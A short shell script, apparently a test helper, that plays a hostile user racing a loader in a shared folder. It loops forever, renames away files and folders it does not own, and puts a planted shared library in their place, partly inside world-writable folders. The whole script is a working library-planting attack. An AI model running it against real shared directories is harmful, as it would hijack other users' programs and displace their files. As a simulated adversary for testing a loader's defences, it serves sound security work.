#!/bin/sh
# Plays another user racing a loader in a shared folder: renames away every
# entry (up to three levels down) that is not its own, and puts its own folder
# or library in its place, logging each swap. Runs until killed.
#
# usage: take_over.sh FOLDER PLANTED_LIBRARY LOG
folder=$1
planted=$2
log=$3
me=$(id -u)
while :; do
  for entry in "$folder"/* "$folder"/*/* "$folder"/*/*/*; do
    [ -e "$entry" ] || continue
    case $entry in *.away*) continue ;; esac
    [ "$(stat -c %u "$entry" 2>/dev/null)" = "$me" ] && continue
    mv "$entry" "$entry.away$$" 2>/dev/null || continue
    if [ -d "$entry.away$$" ]; then
      mkdir -m 777 "$entry" && cp "$planted" "$entry/libvrxchdet.so" && cp "$planted" "$entry/libntesra.so"
    else
      cp "$planted" "$entry"
    fi
    echo "swapped $entry" >>"$log"
  done
done
